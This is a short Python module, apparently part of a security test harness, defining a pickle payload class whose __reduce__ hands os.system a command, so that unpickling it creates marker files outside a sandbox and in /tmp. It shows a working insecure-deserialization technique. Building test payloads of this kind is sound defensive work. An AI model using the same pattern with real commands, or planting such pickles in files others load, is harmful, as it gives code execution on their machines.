"""The pickle that several attacks hand in: whoever unpickles it runs a command of the attacker's."""

from __future__ import annotations

import os
from collections.abc import Mapping
from typing import Any


class Bomb:
    """Unpickling it leaves a marked file in every place that it can reach."""

    def __init__(self, places: Mapping[str, str]) -> None:
        self.command = f"touch {places['OUTSIDE']}/{places['MARK']} /tmp/{places['MARK']}"

    def __reduce__(self) -> tuple[Any, ...]:
        return os.system, (self.command,)
